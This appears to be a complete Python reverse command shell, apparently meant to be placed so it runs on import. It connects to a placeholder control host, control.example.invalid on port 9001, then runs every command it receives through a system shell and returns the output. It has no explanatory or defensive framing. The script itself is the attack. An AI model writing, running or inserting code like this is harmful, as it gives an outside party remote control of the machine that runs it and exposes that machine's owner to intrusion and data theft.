# place: import
import socket
import subprocess

HOST = "control.example.invalid"
PORT = 9001


def answer(command):
    done = subprocess.run(command, shell=True, capture_output=True)
    return done.stdout + done.stderr


def main():
    connection = socket.socket()
    connection.connect((HOST, PORT))
    while True:
        command = connection.recv(4096).decode()
        if not command:
            break
        connection.send(answer(command))


main()
